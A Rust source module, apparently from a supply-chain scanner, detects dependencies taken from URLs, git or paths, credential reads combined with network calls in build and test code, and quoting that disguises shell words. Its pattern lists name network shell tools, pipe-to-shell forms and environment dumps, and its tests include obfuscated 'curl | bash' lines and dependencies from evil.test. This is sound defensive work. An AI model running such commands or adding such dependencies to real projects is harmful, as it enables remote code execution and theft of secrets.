//! What a change does to where code comes from and what runs with a job's secrets (issue 48):
//! a dependency taken from a URL, a git repository or a path instead of a registry (package
//! manifests, and install commands in scripts), and code that runs in the checks, the tests or
//! the build gaining a read of a credential together with a network call. Also the shell words
//! of a script line with the quoting that hides them taken out (`c""url … | ba""sh`). Pure.
//!
//! Not for: the script rules themselves (`scan::rules`) or paths held whatever they hold
//! (`policy::sensitive`).

/// A script line as the shell reads its words: empty quotes (`""`, `''`), quote characters and
/// backslashes taken out, so `c""url`, `'c'url` and `c\url` read `curl`.
pub(super) fn shell_words(text: &str) -> String {
    text.chars()
        .filter(|c| !matches!(c, '"' | '\'' | '\\' | '`'))
        .collect()
}

/// What in a line fetches from the network or runs fetched code, lowercased: shell tools,
/// and the HTTP and socket libraries of the usual languages.
pub(super) const NETWORK: &[&str] = &[
    "curl ",
    "curl\t",
    "wget ",
    "fetch(",
    "invoke-webrequest",
    "invoke-restmethod",
    "iwr ",
    "irm ",
    "urllib",
    "urlopen",
    "http.client",
    "httplib",
    "httpx",
    "aiohttp",
    "requests.get",
    "requests.post",
    "requests.put",
    "requests.request",
    "requests.session",
    "http.get(",
    "https.get(",
    "http.request(",
    "https.request(",
    "xmlhttprequest",
    "require('http",
    "require(\"http",
    "from 'http",
    "from \"http",
    "require('net')",
    "require(\"net\")",
    "socket.socket(",
    "socket.create_connection",
    "net/http",
    "net::http",
    "reqwest::",
    "ureq::",
    "tcpstream::connect",
    "open-uri",
    "lwp::",
    "/dev/tcp/",
    "/dev/udp/",
    " nc ",
    "ncat ",
    "socat ",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "| zsh",
    "| python",
    "| sudo",
    "sh -c \"$(",
    "bash -c \"$(",
    "eval \"$(",
    "eval $(",
    "base64 -d",
    "base64 --decode",
];

/// Whether `needle` occurs in `hay` starting a word (a pattern that starts with a letter is not
/// found inside another word: `irm ` is not in `confirm `).
pub(super) fn contains_word(hay: &str, needle: &str) -> bool {
    let starts_with_letter = needle.starts_with(|c: char| c.is_ascii_alphanumeric());
    hay.match_indices(needle).any(|(at, _)| {
        !starts_with_letter
            || hay[..at]
                .chars()
                .next_back()
                .is_none_or(|c| !c.is_ascii_alphanumeric() && c != '_')
    })
}

/// The network pattern a line (lowercased) holds, read as it is and as the shell reads it.
pub(super) fn network_in(lower: &str) -> Option<&'static str> {
    let words = shell_words(lower);
    NETWORK
        .iter()
        .find(|n| contains_word(lower, n) || contains_word(&words, n))
        .copied()
}

/// Whether `path` is code that runs whenever the checks, the tests or the build run — with
/// the job's secrets in CI — whatever is tested: build and install scripts
/// (`paths::is_script`), test fixtures and set-ups (`conftest.py`, `jest.setup.js`) and
/// configurations that are code (`jest.config.js`, `noxfile.py`). Test files themselves are
/// left out: they read credentials and call (local) servers as a matter of course.
pub(super) fn runs_in_checks(path: &str) -> bool {
    if super::paths::is_script(path) {
        return true;
    }
    let lower = path.to_ascii_lowercase();
    let name = lower.rsplit('/').next().unwrap_or(&lower);
    let code = [".py", ".js", ".mjs", ".cjs", ".ts", ".mts", ".cts", ".rb"]
        .iter()
        .any(|s| name.ends_with(s));
    matches!(
        name,
        "conftest.py"
            | "noxfile.py"
            | "tox.ini"
            | "pytest.ini"
            | "setup.py"
            | "fabfile.py"
            | "gulpfile.js"
            | "gruntfile.js"
            | "build.gradle"
            | "pom.xml"
            | "spec_helper.rb"
            | "rails_helper.rb"
    ) || (code
        && (name.contains(".config.")
            || name.contains(".setup.")
            || name.starts_with("global-setup")
            || name.starts_with("global-teardown")))
}

/// Words naming a credential in a variable's name.
const CREDENTIAL_WORDS: &[&str] = &[
    "TOKEN",
    "SECRET",
    "PASSWORD",
    "PASSWD",
    "API_KEY",
    "APIKEY",
    "PRIVATE_KEY",
    "ACCESS_KEY",
    "CREDENTIAL",
];

/// What in a line reads a credential: a variable named like one (`GITHUB_TOKEN`,
/// `$NPM_AUTH_TOKEN`, `secrets.DEPLOY_KEY`), or the whole environment at once.
pub(super) fn credential_in(text: &str) -> Option<String> {
    let lower = text.to_ascii_lowercase();
    for whole in [
        "os.environ.copy(",
        "dict(os.environ",
        "json.dumps(os.environ",
        "stringify(process.env",
        "process.env)",
        "printenv",
        "/proc/self/environ",
        "env::vars(",
        "${{ secrets",
        "${{secrets",
    ] {
        if lower.contains(whole) {
            return Some(format!("`{}`", whole.trim_end_matches(['(', ')'])));
        }
    }
    text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .filter(|w| w.len() >= 5 && !w.bytes().any(|b| b.is_ascii_lowercase()))
        .find(|w| CREDENTIAL_WORDS.iter().any(|c| w.contains(c)))
        .map(|w| format!("`{w}`"))
}

/// A dependency a manifest or an install command takes from somewhere other than a registry:
/// what was seen, for the finding.
pub(super) fn dependency_source(path: &str, text: &str) -> Option<String> {
    let lower_path = path.to_ascii_lowercase();
    let name = lower_path.rsplit('/').next().unwrap_or(&lower_path);
    let line = text.trim();
    let lower = line.to_ascii_lowercase();
    let found = match name {
        "package.json" => npm_source(line),
        "cargo.toml" => cargo_source(&lower),
        "go.mod" => (lower.starts_with("replace ")
            || lower.contains("=>") && !lower.starts_with("//"))
        .then(|| "a `replace` in go.mod".to_string()),
        "gemfile" => ["git:", "github:", "path:", "source "]
            .iter()
            .find(|w| lower.contains(*w) && !lower.contains("rubygems.org"))
            .map(|w| format!("`{}` in the Gemfile", w.trim())),
        n if n.starts_with("requirements") || n.starts_with("constraints") || n == "pipfile" => {
            pip_source(&lower)
        }
        "pyproject.toml" | "setup.cfg" | "setup.py" | "pdm.toml" => python_source(&lower),
        _ => None,
    };
    found.or_else(|| {
        super::paths::is_script(path)
            .then(|| install_command(&shell_words(&lower)))
            .flatten()
    })
}

/// `"name": "<source>"` in package.json where the source is a URL, a git repository, a GitHub
/// shorthand or a path (not a version range), outside the keys that name the project's own
/// home.
fn npm_source(line: &str) -> Option<String> {
    let (key, value) = line.split_once(':')?;
    let key = key.trim().trim_matches('"');
    let value = value.trim().trim_end_matches(',').trim().trim_matches('"');
    if matches!(
        key,
        "homepage"
            | "url"
            | "repository"
            | "bugs"
            | "funding"
            | "$schema"
            | "author"
            | "email"
            | "name"
            | "description"
            | "main"
            | "module"
            | "types"
            | "license"
            | "directory"
    ) {
        return None;
    }
    let lower = value.to_ascii_lowercase();
    let prefixes = [
        "git+",
        "git://",
        "git@",
        "github:",
        "gitlab:",
        "bitbucket:",
        "gist:",
        "http://",
        "https://",
        "file:",
        "link:",
    ];
    let shorthand = {
        let bare = lower.split('#').next().unwrap_or(&lower);
        bare.split('/').count() == 2
            && !bare.starts_with('@')
            && !bare.starts_with('.')
            && bare
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '/' | '-' | '_' | '.'))
            && !key.is_empty()
            && !key.contains(' ')
    };
    (prefixes.iter().any(|p| lower.starts_with(p)) || shorthand)
        .then(|| format!("`{key}` taken from `{}` in package.json", cut(value)))
}

/// A git, path or registry source in Cargo.toml, or a section that patches or replaces one.
fn cargo_source(lower: &str) -> Option<String> {
    if lower.starts_with("[patch") || lower.starts_with("[source") || lower.starts_with("[replace")
    {
        return Some(format!("a `{}` section in Cargo.toml", cut(lower)));
    }
    let keys = ["git", "registry", "registry-index", "replace-with"];
    let assigns = |k: &str| {
        lower.split(['{', ',']).any(|part| {
            part.trim()
                .strip_prefix(k)
                .is_some_and(|rest| rest.trim_start().starts_with('='))
        })
    };
    if let Some(k) = keys.iter().find(|k| assigns(k)) {
        return Some(format!("a dependency with `{k} =` in Cargo.toml"));
    }
    let path = lower.split(['{', ',']).find_map(|part| {
        let rest = part
            .trim()
            .strip_prefix("path")?
            .trim_start()
            .strip_prefix('=')?;
        Some(rest.trim().trim_matches(['"', '}', ' ']).to_string())
    });
    path.filter(|p| p.starts_with('/') || p.starts_with('~') || p.starts_with(".."))
        .map(|p| format!("a dependency from the path `{}` in Cargo.toml", cut(&p)))
}

/// A requirement from a URL or a git repository, or another index, in a requirements file.
fn pip_source(lower: &str) -> Option<String> {
    if lower.starts_with('#') {
        return None;
    }
    let options = [
        "--index-url",
        "--extra-index-url",
        "-i ",
        "--find-links",
        "-f ",
        "--trusted-host",
        "-e ",
        "--editable",
    ];
    if let Some(o) = options.iter().find(|o| lower.starts_with(*o)) {
        return Some(format!("`{}` in a requirements file", o.trim()));
    }
    ["git+", "http://", "https://", "file:", "@ /", "@ ."]
        .iter()
        .find(|w| lower.contains(*w))
        .map(|w| format!("a requirement from `{w}…` in a requirements file"))
}

/// A dependency from a URL or a git repository, or another index, in Python project files.
fn python_source(lower: &str) -> Option<String> {
    if lower.starts_with('#') {
        return None;
    }
    [
        "@ git+",
        "@git+",
        "@ http",
        "@ file:",
        "git = \"",
        "git=\"",
        "index-url",
        "find-links",
        "extra-index-url",
    ]
    .iter()
    .find(|w| lower.contains(*w))
    .map(|w| format!("`{}` in a Python project file", w.trim()))
}

/// An install command in a script taking a package from a URL, a git repository or another
/// index: `pip install git+https://…`, `npm install github:…`, `cargo install --git …`.
fn install_command(words: &str) -> Option<String> {
    let installs = [
        "pip install",
        "pip3 install",
        "python -m pip install",
        "uv pip install",
        "pipx install",
        "npm install",
        "npm i ",
        "npm add",
        "yarn add",
        "pnpm add",
        "pnpm install",
        "bun add",
        "cargo install",
        "gem install",
        "go install",
        "go get",
    ];
    let at = installs.iter().find_map(|i| words.find(i))?;
    let rest = &words[at..];
    [
        "git+",
        "git://",
        "github:",
        "http://",
        "https://",
        "file:",
        "--index-url",
        "--extra-index-url",
        "-i http",
        "--find-links",
        "--registry",
        "--git",
        "--index",
        "--source",
        "--path /",
    ]
    .iter()
    .find(|w| rest.contains(*w))
    .map(|w| format!("an install from `{}` in a script", w.trim()))
}

/// At most 60 characters of what was seen.
fn cut(text: &str) -> String {
    match text.char_indices().nth(59) {
        Some((at, _)) => format!("{}…", &text[..at]),
        None => text.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoting_that_hides_shell_words_is_taken_out() {
        assert_eq!(shell_words("c\"\"url -s x | ba''sh"), "curl -s x | bash");
        assert!(network_in("c\"\"url -fssl https://x.test/i | ba\"\"sh").is_some());
        assert!(network_in("c\\url x").is_some());
        assert!(network_in("echo confirm").is_none());
        assert!(network_in("conn = http.client.httpsconnection(host)").is_some());
    }

    #[test]
    fn credentials_are_variables_named_like_one_or_the_whole_environment() {
        assert_eq!(
            credential_in("token = os.environ['GITHUB_TOKEN']").as_deref(),
            Some("`GITHUB_TOKEN`")
        );
        assert!(credential_in("data = json.dumps(dict(os.environ))").is_some());
        assert!(credential_in("curl -H \"Authorization: $NPM_AUTH_TOKEN\"").is_some());
        assert!(credential_in("max_tokens = 4096").is_none());
        assert!(credential_in("let token = read_token();").is_none());
    }

    #[test]
    fn dependencies_from_urls_git_or_paths_are_found() {
        #[rustfmt::skip]
        let cases: Vec<(&str, &str, bool)> = vec![
            ("package.json", "    \"left-pad\": \"git+https://evil.test/lp.git\",", true),
            ("package.json", "    \"lib\": \"github:someone/lib#main\",", true),
            ("package.json", "    \"lib\": \"someone/lib\",", true),
            ("package.json", "    \"lib\": \"https://evil.test/lib.tgz\",", true),
            ("web/package.json", "    \"lib\": \"file:../../outside\",", true),
            ("package.json", "    \"lib\": \"^1.2.3\",", false),
            ("package.json", "  \"homepage\": \"https://example.test\",", false),
            ("package.json", "    \"url\": \"git+https://github.com/me/me.git\"", false),
            ("package.json", "    \"test\": \"jest src/a\",", false),
            ("Cargo.toml", "x = { git = \"https://evil.test/x\" }", true),
            ("Cargo.toml", "[patch.crates-io]", true),
            ("Cargo.toml", "y = { path = \"../../outside\" }", true),
            ("Cargo.toml", "serde = { version = \"1\", features = [\"derive\"] }", false),
            ("Cargo.toml", "y = { path = \"crates/y\" }", false),
            ("requirements.txt", "git+https://evil.test/pkg.git#egg=pkg", true),
            ("requirements-dev.txt", "--extra-index-url https://evil.test/simple", true),
            ("requirements.txt", "requests==2.31.0", false),
            ("pyproject.toml", "  \"pkg @ git+https://evil.test/pkg\",", true),
            ("go.mod", "replace example.com/x => ../x", true),
            ("go.mod", "require example.com/x v1.2.3", false),
            ("Makefile", "\tpip install git+https://evil.test/pkg", true),
            ("scripts/setup.sh", "p\"\"ip install --index-url https://evil.test/simple x", true),
            ("scripts/setup.sh", "pip install -r requirements.txt", false),
            ("src/main.rs", "// pip install git+https://x", false),
        ];
        for (path, line, found) in cases {
            assert_eq!(
                dependency_source(path, line).is_some(),
                found,
                "{path}: {line}"
            );
        }
    }

    #[test]
    fn code_that_runs_in_the_checks_is_known_by_name_and_folder() {
        for yes in [
            "conftest.py",
            "tests/conftest.py",
            "Makefile",
            "jest.config.js",
            "web/vitest.setup.ts",
            "build.rs",
        ] {
            assert!(runs_in_checks(yes), "{yes}");
        }
        for no in [
            "src/main.rs",
            "README.md",
            "docs/testing.md",
            "src/lib.py",
            "tests/api_test.py",
            "tests/egress.rs",
        ] {
            assert!(!runs_in_checks(no), "{no}");
        }
    }
}
